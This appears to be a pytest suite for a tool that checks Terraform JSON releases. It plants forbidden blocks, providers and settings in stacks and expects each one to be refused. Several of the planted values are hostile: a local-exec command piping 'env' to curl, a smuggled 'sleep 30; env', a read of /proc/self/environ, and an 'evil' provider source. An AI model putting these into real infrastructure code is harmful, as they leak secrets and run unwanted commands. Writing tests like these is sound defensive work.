"""What may be in a release is what the product synthesises: no less, and no more."""

import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from configuration.emulator import PROVIDER_ARGUMENTS
from operations.common.commit import Commit
from operations.common.errors import InputError
from operations.record import content
from operations.record.content import check_content
from operations.record.release import build_release, verify_release
from tests.support.small_stack import synthesise_small
from tests.support.tampered import plant, resealed

ROOT = Path(__file__).resolve().parents[3]
COMMIT = Commit(id="a" * 40, time="2026-01-05T08:00:00Z", dirty=False)


def documents(synthesised: Path) -> Iterator[tuple[str, dict[str, Any]]]:
    for folder in sorted((synthesised / "stacks").iterdir()):
        yield folder.name, json.loads((folder / "cdk.tf.json").read_text())


def test_everything_that_is_synthesised_may_be_in_a_release(synthesised: Path) -> None:
    check_content(synthesised)


def test_nothing_may_that_is_not_synthesised(synthesised: Path) -> None:
    """So that the lists are never wider than the product; imports and moves come by hand (docs/concepts/ids.md)."""
    blocks: set[str] = set()
    settings: dict[str, set[str]] = {name: set() for name in content.PROVIDERS}
    backend: set[str] = set()
    for name, document in documents(synthesised):
        blocks |= document.keys()
        backend |= set(document["terraform"]["backend"].get("s3", {}))
        for provider, configurations in document["provider"].items():
            for each in configurations:
                settings[provider] |= each.keys() - (
                    PROVIDER_ARGUMENTS.keys() if name == "anthill-local" else set()
                )
    assert blocks | {"import", "moved", "data"} == content.BLOCKS
    assert settings == content.PROVIDER_SETTINGS
    assert backend == content.BACKEND_SETTINGS


def test_the_data_sources_are_those_that_the_product_imports() -> None:
    imported = re.compile(r"^from cdktf_cdktf_provider_(\w+?)\.data_\1_(\w+) import", re.MULTILINE)
    found = {
        f"{provider}_{name}"
        for folder in ("constructs_lib", "stacks")
        for file in (ROOT / folder).rglob("*.py")
        for provider, name in imported.findall(file.read_text())
    }
    assert found == content.DATA_SOURCES


@pytest.fixture
def synthesis(tmp_path: Path) -> Path:
    return synthesise_small(tmp_path / "cdktf.out")


@pytest.fixture
def stack(synthesis: Path) -> Path:
    return synthesis / "stacks" / "anthill-dev" / "cdk.tf.json"


WAIT = {"local-exec": {"command": "sleep 30"}}


def resource(type_: str, **body: Any) -> dict[str, Any]:
    return {"resource": {type_: {"planted": body}}}


def data(type_: str) -> dict[str, Any]:
    return {"data": {type_: {"planted": {}}}}


PLANTED: dict[str, tuple[dict[str, Any], str]] = {
    "local-exec": (
        resource("aws_sns_topic", name="x", provisioner=[{"local-exec": {"command": "env | curl -d @- x"}}]),
        "aws_sns_topic.planted: provisioner local-exec: a command",
    ),
    "a wait that is none": (resource("aws_sns_topic", provisioner=[WAIT]), "provisioner local-exec"),
    "another command in a wait": (
        resource("terraform_data", provisioner=[{"local-exec": {"command": "sleep 30; env"}}]),
        "terraform_data.planted: provisioner local-exec",
    ),
    "a wait with an interpreter": (
        resource(
            "terraform_data", provisioner=[{"local-exec": {"command": "sleep 30", "interpreter": ["./x"]}}]
        ),
        "terraform_data.planted: provisioner local-exec",
    ),
    "two commands in a wait": (
        resource("terraform_data", provisioner=[WAIT, WAIT]),
        "provisioner local-exec",
    ),
    "no list": (resource("terraform_data", provisioner=WAIT), "provisioner local-exec"),
    "remote-exec": (
        resource("terraform_data", provisioner=[{"remote-exec": {"inline": ["sleep 30"]}}]),
        "provisioner remote-exec",
    ),
    "connection": (resource("aws_sns_topic", connection={"host": "h"}), "aws_sns_topic.planted: connection"),
    "null_resource": (resource("null_resource"), "null_resource.planted: of a provider that no stack has"),
    "resources in a list": ({"resource": [{"null_resource": {"x": {}}}]}, "a list of blocks: is no object"),
    "bodies in a list": ({"resource": {"aws_sns_topic": {"x": [{}]}}}, "aws_sns_topic.x: is no object"),
    "external": (data("external"), "data.external.planted: a data source that no stack has"),
    "http": (data("http"), "data.http.planted: a data source that no stack has"),
    "another data source": (
        data("aws_lambda_invocation"),
        "data.aws_lambda_invocation.planted: a data source",
    ),
    "module": (
        {"module": {"m": {"source": "git::https://example.com/m"}}},
        "module: a block that no stack has",
    ),
    "check": (
        {"check": {"c": {"data": {"http": {"planted": {}}}, "assert": {}}}},
        "check.c.data: a check has conditions and nothing else",
    ),
    "action": ({"action": {"aws_lambda_invoke": {"a": {}}}}, "action: a block that no stack has"),
    "ephemeral": ({"ephemeral": {"e": {}}}, "ephemeral: a block that no stack has"),
    "removed": ({"removed": [{"from": "aws_sns_topic.topic"}]}, "removed: a block that no stack has"),
    "variable": ({"variable": {"v": {}}}, "variable: a block that no stack has"),
    "provider": ({"provider": {"http": [{}]}}, "provider http: known are aws, databricks"),
    "another source": (
        {"terraform": {"required_providers": {"aws": {"source": "evil/aws"}}}},
        "provider aws from registry.terraform.io/evil/aws",
    ),
    "another provider": (
        {"terraform": {"required_providers": {"external": {"source": "hashicorp/external"}}}},
        "provider external from registry.terraform.io/hashicorp/external",
    ),
    "endpoints": (
        {"provider": {"aws": [{"endpoints": [{"s3": "http://h"}]}]}},
        "provider aws: endpoints is a",
    ),
    "proxy": ({"provider": {"aws": [{"http_proxy": "http://h"}]}}, "provider aws: http_proxy is a setting"),
    "the emulator's keys": ({"provider": {"aws": [{"access_key": "test"}]}}, "provider aws: access_key is"),
    "a token": ({"provider": {"databricks": [{"token": "t"}]}}, "provider databricks: token is a setting"),
    "another backend": (
        {"terraform": {"backend": {"http": {"address": "http://h"}}}},
        "backend http: the state",
    ),
    "a local backend": (
        {"terraform": {"backend": {"local": {"path": "x"}}}},
        "backend local: the state",
    ),
    "another endpoint of it": (
        {"terraform": {"backend": {"s3": {"endpoints": {}}}}},
        "backend s3: endpoints is",
    ),
    "cloud": (
        {"terraform": {"cloud": {"organization": "o"}}},
        "terraform.cloud: a setting that no stack has",
    ),
    "a file": (
        resource("aws_sns_topic", name='${file("/proc/self/environ")}'),
        "file() reads what is on the machine",
    ),
    "a hash of a file": (resource("aws_sns_topic", name='${filemd5 ("x")}'), "filemd5() reads"),
    "a template": (
        {"output": {"o": {"value": '%{ if templatefile("x", {}) }%{ endif }'}}},
        "templatefile() reads",
    ),
    "a provider's function": (
        resource("aws_sns_topic", name="${provider::evil::read()}"),
        "provider::evil::read()",
    ),
    "a file in a name": (resource("aws_sns_topic", tags={'${file("x")}': "v"}), "file() reads"),
}


@pytest.mark.parametrize("planted", PLANTED)
def test_what_no_stack_has_is_refused_by_name_when_a_release_is_built_and_used(
    synthesis: Path, stack: Path, tmp_path: Path, planted: str
) -> None:
    release = build_release(synthesis, tmp_path / "release", commit=COMMIT, tools={})
    document, said = PLANTED[planted]
    plant(stack, document)
    with pytest.raises(InputError, match=re.escape(said)):
        build_release(synthesis, tmp_path / "another", commit=COMMIT, tools={})
    assert not (tmp_path / "another").exists()

    plant(release.stack("anthill-dev") / "cdk.tf.json", document)
    with pytest.raises(InputError, match=re.escape(said)):
        verify_release(resealed(release).folder)


def test_a_wait_is_no_command(synthesis: Path, stack: Path, tmp_path: Path) -> None:
    plant(stack, resource("terraform_data", provisioner=[WAIT]))
    build_release(synthesis, tmp_path / "release", commit=COMMIT, tools={})


def test_a_block_that_stands_there_twice_is_refused(synthesis: Path, stack: Path) -> None:
    """Python reads the last one, Terraform both."""
    text = stack.read_text().rstrip()
    evil = '"resource": {"null_resource": {"x": {}}}'
    stack.write_text(f"{{{evil}, {text[1:]}")
    with pytest.raises(InputError, match="'resource' is there twice"):
        check_content(synthesis)


@pytest.mark.parametrize("text", ["", "[]", '{"resource": {'])
def test_a_stack_that_cannot_be_read_is_named(synthesis: Path, stack: Path, text: str) -> None:
    stack.write_text(text)
    with pytest.raises(InputError, match=r"anthill-dev: cdk\.tf\.json (cannot be read|is no object)"):
        check_content(synthesis)
